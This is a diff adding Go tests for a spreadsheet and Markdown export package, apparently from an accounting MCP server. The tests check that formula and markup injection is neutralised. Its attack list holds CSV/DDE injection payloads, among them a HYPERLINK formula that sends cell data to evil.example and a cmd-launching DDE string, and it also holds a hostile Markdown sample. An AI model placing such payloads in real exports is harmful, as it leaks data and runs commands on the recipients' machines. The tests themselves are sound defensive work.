@@ -1,0 +1,228 @@
+package sheet_test
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/csv"
+	"encoding/xml"
+	"io"
+	"slices"
+	"strings"
+	"testing"
+
+	"pgregory.net/rapid"
+
+	"github.com/fiskl-mcp/fiskl-mcp/internal/sheet"
+	"github.com/fiskl-mcp/fiskl-mcp/schemas"
+)
+
+// columns are one of each kind.
+func columns() []sheet.Column {
+	return []sheet.Column{{Name: "name", Kind: sheet.Text}, {Name: "amount", Kind: sheet.Number}, {Name: "date", Kind: sheet.Date}}
+}
+
+// attacks are texts that a spreadsheet would take for formulas, or for the end
+// of a cell.
+func attacks() []string {
+	return []string{
+		`=1+1`, `=HYPERLINK("http://evil.example?"&A1,"click")`, `+1`, `-1+1`, `@SUM(1)`, "\t=1", "\r=1", "\n=1", `＝1+1`, `＋1`, `－1`, `＠1`,
+		`=cmd|' /C calc'!A0`, `-`, `+44 20 7946 0000`,
+	}
+}
+
+// written is a document of one table.
+func written(t *testing.T, w sheet.Writer, rows ...[]string) {
+	t.Helper()
+	d := sheet.Document{Tables: []sheet.Table{{Columns: columns(), Rows: rows}}, Facts: []sheet.Fact{{Name: "company", Value: "=Evil & Sons"}}}
+	if err := sheet.Write(w, d); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// TestCSVFormulas finds that no text opens a formula, in any column, and that
+// numbers and days stay what they are.
+func TestCSVFormulas(t *testing.T) {
+	t.Parallel()
+	for _, attack := range attacks() {
+		var b bytes.Buffer
+		written(t, sheet.NewCSV(&b), []string{attack, attack, attack}, []string{"Acme", "-12.50", "2026-11-22"})
+		r := csv.NewReader(&b)
+		r.FieldsPerRecord = -1
+		rows, err := r.ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, cell := range rows[1] {
+			if !strings.HasPrefix(cell, "'") {
+				t.Errorf("%q is written as %q", attack, cell)
+			}
+		}
+		if want := []string{"Acme", "-12.50", "2026-11-22"}; !slices.Equal(rows[2], want) {
+			t.Errorf("got %q, want %q", rows[2], want)
+		}
+		if want := []string{"company", "'=Evil & Sons"}; !slices.Equal(rows[len(rows)-1], want) {
+			t.Errorf("got %q, want %q", rows[len(rows)-1], want)
+		}
+	}
+}
+
+// TestCSVTables finds several tables one below the other.
+func TestCSVTables(t *testing.T) {
+	t.Parallel()
+	var b bytes.Buffer
+	err := sheet.Write(sheet.NewCSV(&b), sheet.Document{Tables: []sheet.Table{
+		{Columns: columns(), Rows: [][]string{{"a, b", "1.50", ""}}}, {Title: "documents", Columns: columns()[:1], Rows: [][]string{{`say "x"`}}},
+	}})
+	if want := "name,amount,date\r\n\"a, b\",1.50,\r\n\r\ndocuments\r\nname\r\n\"say \"\"x\"\"\"\r\n"; err != nil || b.String() != want {
+		t.Errorf("got %q and error %v, want %q", b.String(), err, want)
+	}
+}
+
+// cell is a cell of a workbook as its file has it.
+type cell struct {
+	At     string `xml:"r,attr"`
+	Type   string `xml:"t,attr"`
+	Value  string `xml:"v"`
+	Text   string `xml:"is>t"`
+	Formel string `xml:"f"`
+}
+
+// cells reads a sheet of a workbook, by the names of its cells.
+func cells(t rapid.TB, workbook []byte, part string) map[string]cell {
+	t.Helper()
+	z, err := zip.NewReader(bytes.NewReader(workbook), int64(len(workbook)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	f, err := z.Open(part)
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, err := io.ReadAll(f)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var s struct {
+		Rows []struct {
+			Cells []cell `xml:"c"`
+		} `xml:"sheetData>row"`
+	}
+	if err := xml.Unmarshal(b, &s); err != nil {
+		t.Fatalf("%v in %s", err, b)
+	}
+	all := make(map[string]cell)
+	for _, row := range s.Rows {
+		for _, c := range row.Cells {
+			all[c.At] = c
+		}
+	}
+	return all
+}
+
+const (
+	data  = "xl/worksheets/sheet1.xml"
+	about = "xl/worksheets/sheet2.xml"
+)
+
+// TestXLSXFormulas finds that no cell holds a formula, and every text of
+// people's is text.
+func TestXLSXFormulas(t *testing.T) {
+	t.Parallel()
+	for _, attack := range attacks() {
+		var b bytes.Buffer
+		written(t, sheet.NewXLSX(&b), []string{attack, attack, attack})
+		all := cells(t, b.Bytes(), data)
+		for _, at := range []string{"A2", "B2", "C2"} {
+			if c := all[at]; c.Formel != "" || c.Type != "inlineStr" || !strings.HasPrefix(c.Text, "'") {
+				t.Errorf("%q in %s is %+v", attack, at, c)
+			}
+		}
+		if c := cells(t, b.Bytes(), about)["B1"]; c.Text != "'=Evil & Sons" {
+			t.Errorf("the company is %+v", c)
+		}
+	}
+}
+
+// TestXLSXCells finds what each kind of cell is written as.
+func TestXLSXCells(t *testing.T) {
+	t.Parallel()
+	for name, c := range map[string]struct {
+		row  []string
+		want []cell // A2, B2, C2
+	}{
+		"plain":        {[]string{"Acme", "1234.50", "2026-11-22"}, []cell{{Type: "inlineStr", Text: "Acme"}, {Value: "1234.50"}, {Value: "46348"}}},
+		"code":         {[]string{"0100", "-0.01", "1900-02-28"}, []cell{{Type: "inlineStr", Text: "0100"}, {Value: "-0.01"}, {Type: "inlineStr", Text: "1900-02-28"}}},
+		"many digits":  {[]string{"", "1234567890123456.78", ""}, []cell{{}, {Type: "inlineStr", Text: "1234567890123456.78"}, {}}},
+		"not a number": {[]string{"<b>&", "1e5", "2026-02-30"}, []cell{{Type: "inlineStr", Text: "<b>&"}, {Type: "inlineStr", Text: "1e5"}, {Type: "inlineStr", Text: "2026-02-30"}}},
+		"odd text":     {[]string{"a\x00b\u202e\xff", "", ""}, []cell{{Type: "inlineStr", Text: "a\uFFFDb\u202e\uFFFD"}, {}, {}}},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			var b bytes.Buffer
+			written(t, sheet.NewXLSX(&b), c.row)
+			all := cells(t, b.Bytes(), data)
+			for i, at := range []string{"A2", "B2", "C2"} {
+				got := all[at]
+				got.At = ""
+				if got != c.want[i] {
+					t.Errorf("%s is %+v, want %+v", at, got, c.want[i])
+				}
+			}
+		})
+	}
+}
+
+// TestXLSXNumbers finds every digit of every amount in the file.
+func TestXLSXNumbers(t *testing.T) {
+	t.Parallel()
+	rapid.Check(t, func(t *rapid.T) {
+		amount := rapid.StringMatching(`-?(0|[1-9][0-9]{0,11})\.[0-9]{2}`).Draw(t, "amount")
+		var b bytes.Buffer
+		w := sheet.NewXLSX(&b)
+		d := sheet.Document{Tables: []sheet.Table{{Columns: columns(), Rows: [][]string{{"", amount, ""}}}}}
+		if err := sheet.Write(w, d); err != nil {
+			t.Fatal(err)
+		}
+		if c := cells(t, b.Bytes(), data)["B2"]; c.Value != amount || c.Type != "" {
+			t.Fatalf("%s is %+v", amount, c)
+		}
+	})
+}
+
+// TestMarkdown finds that texts cannot be markup, rows or links.
+func TestMarkdown(t *testing.T) {
+	t.Parallel()
+	hostile := "a|b\n# c [x](http://evil.example) ![y](z) <img src=x> `code` **bold** &lt; www.evil.example"
+	l := &schemas.ClientList{Page: schemas.NewPage([]schemas.ContactRow{{ID: 7, Name: hostile}}, []string{""}, "")}
+	page := sheet.Page(l, "Acme & Sons")
+	for _, wrong := range []string{"](", "http://", "<img", "**bold", "| b", "\n# c", "www.evil"} {
+		if strings.Contains(page, wrong) {
+			t.Errorf("the page holds %q:\n%s", wrong, page)
+		}
+	}
+	for _, want := range []string{"# Clients\n", "- Company: Acme & Sons\n", "- Complete: true\n", "| Id | Name |", "| 7 |"} {
+		if !strings.Contains(page, want) {
+			t.Errorf("the page lacks %q:\n%s", want, page)
+		}
+	}
+}
+
+// TestOf finds the currency beside amounts, and what every document says.
+func TestOf(t *testing.T) {
+	t.Parallel()
+	head := schemas.ReportHead{Report: "Trial Balance", Currency: "GBP", AsOf: "2026-10-31"}
+	d := sheet.Of(&schemas.TrialBalance{
+		ReportHead: head, Rows: []schemas.TrialBalanceRow{{Account: "Bank", Code: "1010", AccountID: 502, Debit: "5.00"}},
+		Totals: schemas.Totals{{Name: "debit", Amount: "5.00"}},
+	}, "Acme")
+	if got, want := sheet.Names(d.Tables[0].Columns), []string{"account", "code", "account_id", "debit", "credit", "currency"}; !slices.Equal(got, want) {
+		t.Errorf("got columns %v, want %v", got, want)
+	}
+	if got, want := d.Tables[0].Rows[0], []string{"Bank", "1010", "502", "5.00", "", "GBP"}; !slices.Equal(got, want) {
+		t.Errorf("got row %v, want %v", got, want)
+	}
+	want := []sheet.Fact{{Name: "company", Value: "Acme"}, {Name: "currency", Value: "GBP"}, {Name: "as_of", Value: "2026-10-31"}, {Name: "complete", Value: "true"}}
+	if !slices.Equal(d.Facts, want) {
+		t.Errorf("got facts %v, want %v", d.Facts, want)
+	}
+}
